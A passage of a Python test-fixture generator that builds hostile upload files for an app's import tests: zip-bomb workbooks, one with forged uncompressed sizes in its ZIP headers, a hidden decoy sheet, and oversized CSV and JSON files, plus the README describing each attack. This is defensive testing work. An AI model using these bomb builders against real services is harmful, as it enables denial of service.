    decoy = [HEADER, ["Camden", "Housing", SCRIPTS[0], SCRIPTS[1], "", "", "", "", "", "", "H"]]
    return xlsx({"Hidden": decoy, "Visible": [HEADER, *ROWS]}, hidden=("Hidden",))


@committed("zip_bomb.xlsx", "a workbook declaring 401 MB unpacked in about 400 KB")
def _zip_bomb() -> bytes:
    members = []
    with zipfile.ZipFile(io.BytesIO(register_xlsx())) as z:
        members = [(i.filename, z.read(i.filename)) for i in z.infolist()]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=_FIXED_TIME)
            z.writestr(info, data)
        info = zipfile.ZipInfo("xl/media/padding.bin", date_time=_FIXED_TIME)
        info.compress_type = zipfile.ZIP_DEFLATED
        with z.open(info, "w", force_zip64=True) as f:
            chunk = b"\x00" * (1 << 20)
            for _ in range(MAX_UNPACKED_BYTES // len(chunk) + 1):
                f.write(chunk)
    return buffer.getvalue()


@committed("zip_bomb_lying_sizes.xlsx", "a sheet that inflates to 64 MB but claims to be 2 KB")
def _zip_bomb_lying() -> bytes:
    members = []
    with zipfile.ZipFile(io.BytesIO(register_xlsx())) as z:
        members = [(i.filename, z.read(i.filename)) for i in z.infolist()]
    claimed = 2048
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=_FIXED_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            if name == "xl/worksheets/sheet1.xml":
                head, _, tail = data.partition(b"<sheetData>")
                data = head + b"<sheetData>" + b" " * (64 << 20) + tail
            z.writestr(info, data)
    content = bytearray(buffer.getvalue())
    name = b"xl/worksheets/sheet1.xml"
    local = content.find(b"PK\x03\x04")
    while local != -1:  # patch the uncompressed size in the local header of the sheet
        length = struct.unpack_from("<H", content, local + 26)[0]
        if content[local + 30 : local + 30 + length] == name:
            struct.pack_into("<I", content, local + 22, claimed)
        local = content.find(b"PK\x03\x04", local + 4)
    central = content.find(b"PK\x01\x02")
    while central != -1:  # and in its central directory entry
        length = struct.unpack_from("<H", content, central + 28)[0]
        if content[central + 46 : central + 46 + length] == name:
            struct.pack_into("<I", content, central + 24, claimed)
        central = content.find(b"PK\x01\x02", central + 4)
    return bytes(content)


# ---- made at test time (too big to commit) -------------------------------------------------


@large("line_5mb.csv", "one 5 MB line with no delimiter: a single 5 MB cell")
def line_5mb() -> bytes:
    return b"x" * (5 * 1024 * 1024)


@large("line_5mb_commas.csv", "one 5 MB line of 2.6 million comma-separated values")
def line_5mb_commas() -> bytes:
    return b"a," * (5 * 1024 * 1024 // 2)


@large("empty_rows_100k.csv", "a good register followed by 100,000 empty rows")
def empty_rows_100k() -> bytes:
    return csv_bytes([HEADER, *ROWS]) + b",,,,,,,,,,\r\n" * 50_000 + b"\r\n" * 50_000


@large("empty_rows_100k_first.csv", "100,000 empty rows, then the header and the register")
def empty_rows_100k_first() -> bytes:
    return b"\r\n" * 100_000 + csv_bytes([HEADER, *ROWS])


@large("columns_10000.csv", "a header of 10,000 columns")
def columns_10000() -> bytes:
    header = ["Borough", "System", "Vendor"] + [f"Column {i}" for i in range(4, 10_001)]
    return csv_bytes([header, ["Camden", "Mosaic", "Servelec"] + ["1"] * 9_997])


@large("json_rows_over_limit.json", "500,001 OCDS releases: one row more than accepted")
def json_rows_over_limit() -> bytes:
    return b"[" + b",".join([b'{"ocid":1}'] * (MAX_ROWS + 1)) + b"]"


@large("just_over_max_bytes.csv", "a register padded to one byte over the 25 MB limit")
def just_over_max_bytes() -> bytes:
    body = csv_bytes([HEADER, *ROWS])
    return body + b" " * (25 * 1024 * 1024 + 1 - len(body))


# ---- the README --------------------------------------------------------------------------------

README_HEAD = """# Hostile uploads

Files built to break the upload path, one attack each, made by `make_files.py`
(`python tests/data/hostile/make_files.py` rewrites them, and this README, byte for byte;
files holding compressed data, marked *, may differ byte for byte with another zlib).
`tests/test_hostile.py` checks that every one is either imported cleanly or refused with a
specific message, never with an exception, within a time limit; that what is imported is
stored as written; and that a refusal changes nothing stored. `.gitattributes` keeps the bytes
(line endings) as they are.

| file | what it attacks |
|---|---|
"""
README_LARGE = """
Made at test time into a temporary folder, from the functions of the same names in
`make_files.py` (too big to commit):

| file | what it attacks |
|---|---|
"""


def _cell(text: str) -> str:
    return text.replace("|", "\\|")


README_BACKUPS = """
## Hostile backups

In `backups/`, made by `backups/make_backups.py`
(`python tests/data/hostile/backups/make_backups.py` rewrites them from a backup of the embedded
data, so they differ byte for byte each time; what each attacks does not).
`tests/test_hostile_backups.py` checks that every one is refused with one plain message, in the
app and on the command line, in bounded memory, and changes nothing.

| file | what it attacks |
|---|---|
"""


def _backups() -> dict:
    import importlib.util

    spec = importlib.util.spec_from_file_location(
        "make_backups", HERE / "backups" / "make_backups.py"
    )
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module.BACKUPS


def readme() -> str:
    lines = [README_HEAD]
    for name, (_, what) in FILES.items():
        star = " *" if name in COMPRESSED else ""
        lines.append(f"| `{name}`{star} | {_cell(what)} |\n")
    lines.append(README_LARGE)
    for name, (_, what) in LARGE.items():
        lines.append(f"| `{name}` | {_cell(what)} |\n")
    lines.append(README_BACKUPS)
    for name, (_, what) in _backups().items():
        lines.append(f"| `{name}` | {_cell(what)} |\n")
    return "".join(lines)


def main() -> None:
    for name, (build, _) in FILES.items():
        (HERE / name).write_bytes(build())
    (HERE / "README.md").write_text(readme(), encoding="utf-8", newline="\n")
    (HERE / ".gitattributes").write_text(
        "# Each file holds exact bytes (encodings, line endings): never convert them.\n* -text\n",
        encoding="utf-8",
        newline="\n",
    )


if __name__ == "__main__":
    main()
